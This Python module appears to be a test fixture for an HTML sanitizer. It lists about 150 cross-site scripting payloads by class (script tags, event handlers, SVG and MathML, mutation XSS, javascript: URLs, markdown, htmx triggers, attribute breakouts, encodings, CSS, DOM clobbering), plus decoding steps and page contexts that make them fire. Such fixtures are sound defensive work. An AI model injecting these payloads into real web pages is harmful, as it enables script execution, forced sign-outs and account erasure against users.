"""A hundred and fifty texts that want to be more than text, by class, and the naive pages on which each gets
its way: a payload that does so nowhere would prove nothing.

What becomes an element carries the attribute `zqx`; what is reckoned out says zqx49.
"""

import html
import unicodedata
from collections.abc import Callable
from urllib.parse import unquote

AWAY = "//127.0.0.1:9"  #: another origin, where nobody listens
RUN = "onerror=alert(1)"
IMG = f"<img zqx src=x {RUN}>"

SCRIPTS = (
    "<script zqx>alert(1)</script>",
    "<ScRiPt zqx>alert(1)</sCrIpT>",
    "<script zqx>alert`1`</script>",
    "<script/zqx>alert(1)</script>",
    "<script\tzqx\n>alert(1)</script\t\n>",
    f"<script zqx src={AWAY}/a.js></script>",
    "<script zqx src=data:,alert(1)></script>",
    f"<script zqx type=module>import'{AWAY}/m.js'</script>",
    "<<script zqx>alert(1)//<</script>",
    "</script><script zqx>alert(1)</script>",
    "</title><script zqx>alert(1)</script>",
    "</textarea><script zqx>alert(1)</script>",
    "--><script zqx>alert(1)</script>",
)
HANDLERS = (
    IMG,
    f"<img/zqx/src=x/{RUN}>",
    "<img zqx src='x'onerror=alert(1)>",
    "<img zqx src=x ONERROR=alert(1)>",
    "<img zqx src=x onerror\n=\nalert(1)>",
    f"<image zqx src=x {RUN}>",
    f"<video zqx><source {RUN}></video>",
    f"<audio zqx src {RUN}>",
    "<body zqx onload=alert(1)>",
    "<html zqx onclick=alert(1)>",
    "<input zqx autofocus onfocus=alert(1)>",
    "<textarea zqx autofocus onfocus=alert(1)></textarea>",
    "<details zqx open ontoggle=alert(1)>",
    "<marquee zqx onstart=alert(1)>",
    "<div zqx onmouseover=alert(1)>x</div>",
    "<a zqx onclick=alert(1)>x</a>",
    "<button zqx autofocus onfocus=alert(1)>x</button>",
    "<x zqx tabindex=1 onfocus=alert(1)>x</x>",
    "<x zqx contenteditable onbeforeinput=alert(1)>x</x>",
    "<p zqx onanimationstart=alert(1)>x</p>",
    "<dialog zqx open onclose=alert(1)>x</dialog>",
    "<style zqx onload=alert(1)></style>",
    "<link zqx rel=stylesheet href=x onerror=alert(1)>",
)
SVG = (
    "<svg zqx onload=alert(1)>",
    "<svg/zqx/onload=alert(1)//",
    "<svg zqx><script>alert(1)</script></svg>",
    "<svg zqx><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg zqx><set onbegin=alert(1) attributeName=x>",
    "<svg zqx><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    f"<svg zqx><image href={AWAY}/i.png /></svg>",
    f"<svg zqx><use href={AWAY}/u.svg#x /></svg>",
    "<svg zqx><foreignObject><iframe src=javascript:alert(1)>",
    f"<svg zqx><style>@import'{AWAY}/s.css'</style></svg>",
    f"<svg zqx><title>{IMG}</title></svg>",
    "<math zqx href=javascript:alert(1)>x</math>",
    "<math zqx><a xlink:href=javascript:alert(1)>x</a></math>",
)
MUTATION = (
    f'<noscript zqx><p title="</noscript>{IMG}">',
    f'<svg zqx></p><style><a id="</style>{IMG}">',
    f"<math zqx><mtext><table><mglyph><style><!--</style>{IMG}",
    f"<form zqx><math><mtext></form><form><mglyph><style></math>{IMG}",
    f'<xmp zqx><p title="</xmp>{IMG}">',
    f"<table zqx><td><select>{IMG}",
    f"<p zqx><svg><desc><p><style>{IMG}",
    f"<template zqx>{IMG}</template>",
    f"<select zqx><option>{IMG}",
    f"<listing zqx>&lt;img {RUN} src=x&gt;</listing>",
    f'<svg zqx><![CDATA[><a title="]]>{IMG}">',
    f"<a zqx><a>{IMG}</a>",
)
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://x%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](JAVASCRIPT:alert(1) 'x')",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    f"**{IMG}**",
    f"[{IMG}](http://x)",
    f"> {IMG}",
    f"* {IMG}",
    f"\\{IMG}",
    f"`{IMG}`",
)
HTMX = (
    "<div zqx hx-get=/sign-out hx-trigger=load>",
    "<div zqx data-hx-post=/sign-out data-hx-trigger=load>",
    "<form zqx hx-post=/me/erasure hx-trigger=load>",
    "<div zqx hx-on:load=alert(1)>",
    "<div zqx hx-on::load=alert(1)>",
    '<div zqx hx-get=/ hx-trigger="load[alert(1)]">',
    "<div zqx hx-get=/ hx-vals=js:{x:alert(1)}>",
    "<div zqx hx-get=/ hx-headers=js:{x:alert(1)}>",
    f"<a zqx hx-boost=true href={AWAY}/>x</a>",
    "<div zqx hx-swap-oob=true id=main>",
    "<meta zqx name=htmx-config content='{\"allowEval\":true}'>",
    '" zqx hx-get="/sign-out" hx-trigger="load" x="',
)
BREAKING_OUT = (
    '" zqx onmouseover=alert(1) x="',
    "' zqx onmouseover=alert(1) x='",
    " zqx onmouseover=alert(1) ",
    '" zqx autofocus onfocus=alert(1) x="',
    f'" zqx style="background:url({AWAY}/b)" x="',
    '\\" zqx onclick=alert(1) \\"',
    "\\' zqx onclick=alert(1) \\'",
    f'">{IMG}',
    f"'>{IMG}",
    '"/><svg zqx onload=alert(1)>',
    '"}];</script><svg zqx onload=alert(1)>',
    f"--!>{IMG}",
)
ENCODED = (
    f"&lt;img zqx src=x {RUN}&gt;",
    f"&#60;img zqx src=x {RUN}&#62;",
    f"&#x3c;img zqx src=x {RUN}&#x3e;",
    "&LT;svg zqx onload=alert(1)&GT;",
    "&amp;lt;svg zqx onload=alert(1)&amp;gt;",
    "%3Cimg%20zqx%20src=x%20onerror=alert(1)%3E",
    "%253Csvg%20zqx%20onload=alert(1)%253E",
    "\\u003csvg zqx onload=alert(1)\\u003e",
    "\\x3csvg zqx onload=alert(1)\\x3e",
    "＜svg zqx onload=alert(1)＞",
    "+ADw-svg zqx onload=alert(1)+AD4-",
    "<\u200bsvg zqx onload=alert(1)>",
    "\u202e<svg zqx onload=alert(1)>\u202c",
)
TEMPLATES = ("zqx{{7*7}}", "{{'zqx'~49}}", "{% if 1 %}zqx49{% endif %}", "%(zqx)s", "100% zqx", "{zqx}")
STYLES = (
    f"<style zqx>*{{background:url({AWAY}/s)}}</style>",
    f"<style zqx>@import'{AWAY}/i.css'</style>",
    f"<p zqx style=background:url({AWAY}/p)>x</p>",
    '<p zqx style="width:expression(alert(1))">x</p>',
    "<div zqx style=position:fixed;inset:0>x</div>",
    f"<link zqx rel=stylesheet href={AWAY}/l.css>",
    f"<link zqx rel=prefetch href={AWAY}/p>",
    f"</style>{IMG}",
)
PAGE = (
    f"<base zqx href={AWAY}/>",
    f"<meta zqx http-equiv=refresh content=0;url={AWAY}/>",
    "<meta zqx http-equiv=Content-Security-Policy content=x>",
    f"<form zqx action={AWAY}/><button>x</button></form>",
    "<button zqx formaction=javascript:alert(1)>x</button>",
    f"<input zqx type=image src={AWAY}/i>",
    "<iframe zqx srcdoc='<script>alert(1)</script>'></iframe>",
    f"<iframe zqx src={AWAY}/></iframe>",
    "<object zqx data=javascript:alert(1)></object>",
    "<embed zqx src=javascript:alert(1)>",
    f"<img zqx src={AWAY}/i.png>",
    f"<video zqx poster={AWAY}/v></video>",
    f"<a zqx ping={AWAY}/ href=/>x</a>",
)
CLOBBERING = (
    "<a zqx id=htmx>x</a>",
    "<form zqx name=body><input name=firstChild></form>",
    "<img zqx name=cookie>",
    "<input zqx name=csrf_token value=x>",
    "<object zqx id=document></object>",
)
UNTERMINATED = (
    f"<a zqx href={AWAY}/",
    f"<img zqx src='{AWAY}/?",
    "<!--><svg zqx onload=alert(1)>",
    "<plaintext zqx>",
    "<xmp zqx>",
)

CLASSES = {
    "script": SCRIPTS,
    "handlers": HANDLERS,
    "svg and math": SVG,
    "mutation": MUTATION,
    "addresses": URLS,
    "markdown": MARKDOWN,
    "htmx": HTMX,
    "breaking out": BREAKING_OUT,
    "encoded": ENCODED,
    "templates": TEMPLATES,
    "styles": STYLES,
    "page": PAGE,
    "clobbering": CLOBBERING,
    "unterminated": UNTERMINATED,
}
PAYLOADS = tuple(payload for texts in CLASSES.values() for payload in texts)


def _decoded(payload: str) -> str:
    return payload.encode("ascii", "ignore").decode("unicode_escape")


#: What careless pages do with a text before they show it as it is.
CARELESS: tuple[Callable[[str], str], ...] = (
    str,
    html.unescape,
    lambda text: html.unescape(html.unescape(text)),
    lambda text: unquote(unquote(text)),
    lambda text: unicodedata.normalize("NFKC", text),
    lambda text: text.encode("ascii", "ignore").decode("utf-7", "ignore"),
    lambda text: text.replace("\u200b", ""),
    _decoded,
)
#: Places on a careless page.
PLACES = (
    "<p>{}</p><p title='>'>x</p>",
    '<p title="{}">x</p>',
    "<p title='{}'>x</p>",
    "<p title={}>x</p>",
    '<a href="{}">x</a>',
    "<title>{}</title>",
    "<textarea>{}</textarea>",
    "<!-- {} -->",
    "<style>{}</style>",
    "<script src=/x>['{}']</script>",
)
